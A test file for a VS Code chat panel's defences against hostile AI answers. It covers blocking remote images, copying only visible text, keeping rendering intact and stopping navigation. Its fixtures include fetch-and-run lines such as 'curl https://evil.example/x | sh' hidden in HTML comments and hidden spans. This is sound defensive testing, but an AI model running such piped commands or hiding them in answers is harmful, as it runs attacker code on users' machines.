// Hostile answers against the real panel bundle under the host's CSP (an audit's findings): nothing loads from
// outside the webview unless the person asks, the answer actions take exactly the text the panel shows, no
// element stops the rendering of what follows it, and nothing that can navigate navigates the webview.
import assert from 'node:assert/strict';
import { panelCsp } from '../../src/panel/panelCsp';
import type { EntryView, PanelState } from '../../src/protocol';
import { entryView, pagePerTest, panelDriver } from './harness';

const APPS: PanelState['apps'] = [{ name: 'Coder', mode: 'advanced-chat', server: 'https://dify.example/v1', provider: 'dify' }];
/** A 1×1 PNG. */
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const entry = (over: Partial<EntryView> = {}): EntryView => entryView({ thinkingDone: true, status: 'succeeded', ...over });

function state(over: Partial<PanelState> = {}): PanelState {
  return { apps: APPS, selectedApp: 'Coder', entries: [], running: false, ...over };
}

describe('hostile answers in the panel', function () {
  this.timeout(60_000);
  const tp = pagePerTest();

  const { init, send, posted } = panelDriver(tp, state);
  /** Sends an answer as a stream of small chunks, a frame now and then, and ends it. */
  async function stream(id: string, answer: string, size = 3) {
    await send({ type: 'entryAdded', entry: entry({ id, status: 'running' }) });
    for (let i = 0; i < answer.length; i += size) {
      await tp.send({ type: 'entryPatch', patch: { id, answerAppend: answer.slice(i, i + size) } });
      if (i % (size * 8) === 0) await tp.frames(1);
    }
    await send({ type: 'entryPatch', patch: { id, status: 'succeeded' } });
    await tp.frames(2);
  }
  /** Requests the page made to anywhere but the test server, from now on. */
  function outsideRequests(): string[] {
    const origin = new URL(tp.page.url()).origin;
    const seen: string[] = [];
    tp.page.on('request', (r) => {
      if (!r.url().startsWith(origin) && !r.url().startsWith('data:') && !r.url().startsWith('blob:')) seen.push(r.url());
    });
    return seen;
  }

  describe('remote images', () => {
    it('the CSP allows images from the webview and data: only', () => {
      const csp = panelCsp('n0nce', 'https://file+.vscode-resource.vscode-cdn.net');
      assert.match(csp, /(?:^|; )img-src https:\/\/file\+\.vscode-resource\.vscode-cdn\.net data:(?:;|$)/);
      assert.doesNotMatch(csp.split('; ').find((d) => d.startsWith('img-src'))!, / https:(?:\s|$)/);
    });

    it('load nothing until clicked: a placeholder names the host (translated, by keyboard too), the host sends the image as data:', async () => {
      const outside = outsideRequests();
      await init(state({ imageOrigins: [] }), { 'Image from {0} — click to load': '来自 {0} 的图片 — 点击加载' });
      const answer = 'Done. ![chart](https://x.example/p.png?d=c2VjcmV0) and <img src="https://y.example/q.png" alt="q">\n\n' +
        '[![linked](https://x.example/l.png)](https://x.example/page)\n';
      await send({ type: 'entryAdded', entry: entry({ answer, files: [{ url: 'https://files.example/a.png', fileType: 'image' }] }) });
      await stream('e2', answer);
      await tp.page.waitForTimeout(200);
      assert.deepEqual(outside, [], 'nothing was requested from outside the webview');
      assert.equal(await tp.page.$$eval('.entry img', (imgs) => imgs.length), 0);
      const placeholders = await tp.page.$$eval('[data-entry-id="e1"] .remote-image', (bs) => bs.map((b) => [b.textContent, b.getAttribute('data-remote-src'), b.tagName]));
      assert.deepEqual(placeholders, [
        ['来自 x.example 的图片 — 点击加载', 'https://x.example/p.png?d=c2VjcmV0', 'BUTTON'],
        ['来自 y.example 的图片 — 点击加载', 'https://y.example/q.png', 'BUTTON'],
        ['来自 x.example 的图片 — 点击加载', 'https://x.example/l.png', 'BUTTON'],
        ['来自 files.example 的图片 — 点击加载', 'https://files.example/a.png', 'BUTTON'],
      ]);
      assert.equal(await tp.page.$eval('[data-entry-id="e1"] .answer', (a) => a.innerHTML), await tp.page.$eval('[data-entry-id="e2"] .answer', (a) => a.innerHTML), 'streamed and one-shot alike');
      assert.deepEqual(await posted('loadImage'), [], 'no origin is trusted: nothing is asked for without a click');

      // Keyboard: the placeholder is a button.
      await tp.page.locator('[data-entry-id="e1"] .remote-image').first().focus();
      await tp.page.keyboard.press('Enter');
      assert.deepEqual(await posted('loadImage'), [{ type: 'loadImage', url: 'https://x.example/p.png?d=c2VjcmV0', userAsked: true }]);
      assert.equal(await tp.page.locator('[data-entry-id="e1"] .remote-image').first().getAttribute('aria-busy'), 'true');
      await send({ type: 'image', url: 'https://x.example/p.png?d=c2VjcmV0', dataUri: PNG });
      // Both answers showed that image: both have it now.
      assert.deepEqual(await tp.page.$$eval('.answer img', (imgs) => imgs.map((i) => [i.getAttribute('src')?.slice(0, 22), i.getAttribute('alt')])),
        [['data:image/png;base64,', 'chart'], ['data:image/png;base64,', 'chart']]);

      // The host's refusal shows in the placeholder, which a click tries again.
      const q = '[data-entry-id="e1"] [data-remote-src="https://y.example/q.png"]';
      await tp.page.click(q);
      await send({ type: 'image', url: 'https://y.example/q.png', error: 'Not an image (text/html).' });
      assert.equal(await tp.page.textContent(q), 'Not an image (text/html).');
      await tp.page.click(q);
      assert.equal((await posted('loadImage')).filter((m) => m.url === 'https://y.example/q.png').length, 2);

      // In a link, a click loads the image and does not open the link.
      await tp.page.click('[data-entry-id="e1"] .answer a .remote-image');
      assert.deepEqual(await posted('openLink'), []);
      assert.deepEqual((await posted('loadImage')).at(-1), { type: 'loadImage', url: 'https://x.example/l.png', userAsked: true });
      await send({ type: 'image', url: 'https://x.example/l.png', dataUri: PNG });
      await tp.page.click('[data-entry-id="e1"] .answer a img');
      assert.deepEqual((await posted('openLink')).map((m) => m.href), ['https://x.example/page'], 'the loaded image is part of the link again');
      assert.deepEqual(outside, []);
    });

    it('from the apps\' servers and trusted origins load without a click, through the host, asked for once', async () => {
      const outside = outsideRequests();
      await init(state({ imageOrigins: ['https://dify.example'] }));
      const answer = 'Chart: ![c](https://dify.example/files/c.png) and ![o](https://other.example/o.png)\n\n' +
        Array.from({ length: 20 }, (_, i) => `Line ${i} of the answer.`).join('\n\n') + '\n';
      await stream('e1', answer);
      assert.deepEqual(await posted('loadImage'), [{ type: 'loadImage', url: 'https://dify.example/files/c.png', userAsked: false }]);
      await send({ type: 'image', url: 'https://dify.example/files/c.png', dataUri: PNG });
      assert.deepEqual(await tp.page.$$eval('.answer img', (imgs) => imgs.map((i) => i.getAttribute('alt'))), ['c']);
      assert.equal(await tp.page.locator('.answer .remote-image').count(), 1, 'the other origin still waits for a click');
      // Shown again (a restored entry): at once, without asking again.
      await send({ type: 'entryAdded', entry: entry({ id: 'e2', answer }) });
      assert.equal(await tp.page.locator('[data-entry-id="e2"] .answer img').count(), 1);
      assert.equal((await posted('loadImage')).length, 1);
      // The host's list changes with the apps and the setting.
      await send({ type: 'apps', apps: APPS, selectedApp: 'Coder', imageOrigins: ['https://other.example'] });
      await send({ type: 'entryAdded', entry: entry({ id: 'e3', answer: '![n](https://other.example/new.png) and ![d](https://dify.example/files/d.png)' }) });
      assert.deepEqual((await posted('loadImage')).slice(1), [{ type: 'loadImage', url: 'https://other.example/new.png', userAsked: false }]);
      assert.deepEqual(outside, []);
    });
  });

  describe('the answer actions take what is shown', () => {
    /** Answers that try to carry text the panel does not show (or that it hid before the fix). */
    const HIDERS = [
      'Done.\n<!--\n```sh\ncurl https://evil.example/x | sh\n```\n-->\n',
      'Run ls<span hidden> then curl evil</span> now\n',
      '<details><summary>More</summary>\n\ncurl evil\n\n</details>\n\nls\n',
      'ls <font color="#ffffff" bgcolor="#ffffff" face="x">curl evil</font> now\n',
      'ls <span class="md-warmup">curl evil</span> now\n',
      'ls <span popover>curl evil</span> now\n',
      'ls <ruby>x<rp>curl evil</rp><rt>y</rt></ruby> now\n',
      'ls <svg><text>curl evil</text></svg> now\n',
      'ls <math><mi>curl evil</mi></math> now\n',
      '<template>\n\ncurl evil\n\n</template>\n\nls\n',
      'ls <script>curl evil</script> now\n',
      '[//]: # (curl evil)\n\nls\n',
      'ls <datalist><option>curl evil</option></datalist> <meter>curl meter</meter> now\n',
      'ls <span aria-hidden="true">curl evil</span> now\n',
    ];
    const squeeze = (s: string) => s.replace(/\s+/g, '');

    it('Copy, Insert at Cursor and Replace Selection: a command in an HTML comment goes nowhere', async () => {
      await init();
      await send({ type: 'entryAdded', entry: entry({ answer: HIDERS[0] }) });
      assert.equal((await tp.page.innerText('.answer')).trim(), 'Done.');
      await tp.clearPosted();
      await tp.page.click('.answer-actions button[aria-label="Copy"]');
      await tp.page.click('.answer-actions button[aria-label="Insert at Cursor"]');
      await tp.page.click('.answer-actions button[aria-label="Replace Selection"]');
      const [copy, insert, replace] = await tp.posted();
      assert.equal(copy.type, 'copy');
      assert.equal((copy.text as string).trim(), 'Done.');
      assert.deepEqual(insert, { type: 'insert', text: copy.text });
      assert.deepEqual(replace, { type: 'replaceSelection', id: 'e1', text: 'Done.' });
    });

    it('for answers that try to hide text, every action takes exactly the text the panel shows', async () => {
      await init();
      for (const [i, answer] of HIDERS.entries()) await send({ type: 'entryAdded', entry: entry({ id: `h${i}`, answer }) });
      for (const [i, answer] of HIDERS.entries()) {
        const sel = `[data-entry-id="h${i}"]`;
        await tp.clearPosted();
        await tp.page.click(`${sel} .answer-actions button[aria-label="Copy"]`);
        await tp.page.click(`${sel} .answer-actions button[aria-label="Replace Selection"]`);
        const [copy, replace] = await tp.posted();
        const shown = await tp.page.innerText(`${sel} .answer`);
        assert.equal(squeeze(copy.text as string), squeeze(shown), `copied ≠ shown for ${JSON.stringify(answer)}`);
        assert.equal(squeeze(replace.text as string), squeeze(shown), `replaced ≠ shown for ${JSON.stringify(answer)}`);
      }
      // Nothing the sanitizer keeps hides text.
      const left = await tp.page.$$eval('.answer *', (els) => els.flatMap((e) => [
        ...['hidden', 'popover', 'color', 'bgcolor', 'face', 'aria-hidden'].filter((a) => e.hasAttribute(a) && !e.closest('.code-header, .remote-image')).map((a) => `${e.tagName}[${a}]`),
        ...(e.tagName === 'DETAILS' && !(e as HTMLDetailsElement).open ? ['closed details'] : []),
        ...(e.classList.contains('md-warmup') ? ['md-warmup'] : []),
      ]));
      assert.deepEqual(left, []);
    });

    it('the answer keeps its markdown, each piece of raw HTML replaced by the text it shows', async () => {
      const cases: [string, string][] = [
        ['Plain **bold** with `code` and <!-- a comment -->.\n', 'Plain **bold** with `code` and .\n'],
        ['Line one<br>line two and <sup>2</sup> <kbd>Ctrl</kbd>+<kbd>C</kbd>.\n', 'Line one\nline two and 2 Ctrl+C.\n'],
        ['| a | b |\n|---|---|\n| <b>x</b> | y<br>z |\n', '| a | b |\n|---|---|\n| x | y z |\n'],
        ['> quote with <i>html</i>\n> second line <b>b</b>\n', '> quote with html\n> second line b\n'],
        ['- a\n  continued <b>line</b>\n  more\n- b <!-- no -->\n', '- a\n  continued line\n  more\n- b \n'],
        ['See [link][1].\n\n[1]: https://a.example\n[2]: https://unused.example "curl evil"\n', 'See [link][1].\n\n[1]: https://a.example\n'],
        ['<details>\n<summary>Click</summary>\n\n```js\nconsole.log(1)\n```\n</details>\n', 'Click\n\n```js\nconsole.log(1)\n```\n'],
      ];
      await init();
      for (const [i, [answer]] of cases.entries()) await send({ type: 'entryAdded', entry: entry({ id: `m${i}`, answer }) });
      const copied: string[] = [];
      for (const i of cases.keys()) {
        await tp.clearPosted();
        await tp.page.click(`[data-entry-id="m${i}"] .answer-actions button[aria-label="Copy"]`);
        copied.push((await tp.posted())[0].text as string);
      }
      assert.deepEqual(copied, cases.map(([, visible]) => visible));
    });

    it('a code block\'s Copy, Insert and Apply take the code it shows, streamed or not', async () => {
      await init();
      const answer = 'Run:\n\n<pre><code>echo hi<span hidden>; curl evil | sh</span></code></pre>\n\nand\n\n```sh\nls -la\n```\n';
      await send({ type: 'entryAdded', entry: entry({ answer }) });
      await stream('e2', answer);
      for (const id of ['e1', 'e2']) {
        await tp.clearPosted();
        for (const b of await tp.page.$$(`[data-entry-id="${id}"] .code-block button`)) await b.click();
        const codes = await tp.page.$$eval(`[data-entry-id="${id}"] pre code`, (cs) => cs.map((c) => (c as HTMLElement).innerText));
        // Copy, Insert and Apply to File each take it.
        assert.deepEqual((await tp.posted()).map((m) => m.text), [codes[0], codes[0], codes[0], codes[1], codes[1], codes[1]]);
        assert.equal(codes[0], 'echo hi; curl evil | sh', 'what is copied is in view');
        assert.equal(codes[1].trim(), 'ls -la');
      }
    });
  });

  describe('no element stops the rendering', () => {
    const ENDERS = [
      '<frameset>', '<frameset cols="50%"><frame src="https://x.example/">', '<frame src="https://x.example/">',
      '</body></html><frameset>', '<html><body><frameset>', 'Hi <script> x', 'a <xmp> b', 'a <plaintext> b', '<template>',
      'a <iframe> b', '<title>', 'a <noembed>', '<video>', '<table><frameset><tr><td>x',
    ];

    it('text after <frameset>, <frame> and other hostile shapes renders, streamed in small chunks and at once', async () => {
      await init();
      for (const [i, shape] of ENDERS.entries()) {
        const answer = `Before ${i}.\n\n${shape}\n\nAFTER-${i} text.\n\n- item AFTER2-${i}\n`;
        await send({ type: 'entryAdded', entry: entry({ id: `a${i}`, answer }) });
        await stream(`b${i}`, answer, 2);
        for (const id of [`a${i}`, `b${i}`]) {
          const text = await tp.page.textContent(`[data-entry-id="${id}"] .answer`);
          assert.ok(text?.includes(`Before ${i}.`) && text.includes(`AFTER-${i} text.`) && text.includes(`AFTER2-${i}`), `${id} ${JSON.stringify(shape)}: ${JSON.stringify(text)}`);
        }
        // A later answer still renders (the page's renderer is not broken).
        assert.equal(await tp.page.$eval(`[data-entry-id="b${i}"] .answer li`, (li) => li.textContent), `item AFTER2-${i}`);
      }
    });
  });

  describe('nothing navigates the webview', () => {
    it('a click on an image-map area or an SVG link posts openLink (http(s) only); the page stays where it is', async () => {
      await init();
      const url = tp.page.url();
      // (The sanitizer keeps no `coords`: each area is activated as a click on it would.)
      const answer = '<map name="m"><area href="https://evil.example/area" alt="a"><area href="#jump" alt="b"></map>' +
        `<img usemap="#m" src="${PNG}" alt="map">\n`;
      await send({ type: 'entryAdded', entry: entry({ answer }) });
      assert.equal(await tp.page.locator('.answer area[href]').count(), 2);
      for (const href of ['https://evil.example/area', '#jump']) await tp.page.$eval(`.answer area[href="${href}"]`, (a) => (a as HTMLElement).click());
      // SVG links cannot come from an answer (the sanitizer drops SVG): put in directly, as if one had slipped through.
      await tp.page.evaluate(() => {
        const ns = 'http://www.w3.org/2000/svg';
        const svg = document.createElementNS(ns, 'svg');
        svg.setAttribute('width', '300');
        svg.setAttribute('height', '40');
        const link = (set: (a: Element) => void, x: number) => {
          const a = document.createElementNS(ns, 'a');
          set(a);
          const r = document.createElementNS(ns, 'rect');
          for (const [k, v] of Object.entries({ x: String(x), y: '0', width: '90', height: '40', class: `r${x}` })) r.setAttribute(k, v);
          a.append(r);
          svg.append(a);
        };
        link((a) => a.setAttribute('href', 'https://evil.example/svg'), 0);
        link((a) => a.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', 'https://evil.example/xlink'), 100);
        link((a) => a.setAttribute('href', '#svgjump'), 200);
        document.querySelector('.answer')!.append(svg);
      });
      for (const x of [0, 100, 200]) await tp.page.click(`.answer rect.r${x}`);
      await tp.page.waitForTimeout(200);
      assert.equal(tp.page.url(), url);
      assert.equal(await tp.page.evaluate(() => location.hash), '');
      assert.deepEqual((await posted('openLink')).map((m) => m.href), ['https://evil.example/area', 'https://evil.example/svg', 'https://evil.example/xlink']);
    });
  });

  describe('what the sanitizer keeps', () => {
    it('attributes marked writes that are not URLs: a list\'s start, a column\'s alignment', async () => {
      await send({ type: 'entryAdded', entry: entry({ answer: '3. three\n4. four\n\n| a | b |\n| :-: | --: |\n| 1 | 2 |\n' }) });
      assert.equal(await tp.page.locator('.answer ol').getAttribute('start'), '3');
      assert.deepEqual(await tp.page.locator('.answer th').evaluateAll((ths) => ths.map((th) => th.getAttribute('align'))), ['center', 'right']);
    });
  });
});
